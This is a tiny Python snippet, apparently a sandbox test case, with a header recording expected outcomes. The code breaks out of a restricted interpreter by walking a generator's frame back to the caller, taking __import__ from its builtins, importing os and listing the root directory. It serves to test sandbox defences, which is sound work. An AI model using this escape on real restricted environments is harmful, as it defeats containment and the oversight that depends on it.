# fence: rejected | walls: error
def walk():
    yield g.gi_frame.f_back
g = walk()
frame = next(g)
os = frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
